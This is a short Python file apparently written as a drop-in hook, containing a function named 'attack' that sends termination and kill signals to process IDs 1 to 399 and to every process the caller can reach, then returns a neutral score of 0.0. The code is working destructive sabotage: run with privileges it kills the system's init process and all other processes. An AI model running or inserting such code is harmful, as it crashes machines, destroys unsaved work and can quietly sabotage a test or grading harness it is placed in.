"""Sends signals to every process and every group that it may reach."""

import os
import signal


def attack(name, *args, **kwargs):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGKILL):
        for target in (*range(1, 400), -1):
            if target != os.getpid():
                try:
                    os.kill(target, number)
                except OSError:
                    continue
    return 0.0
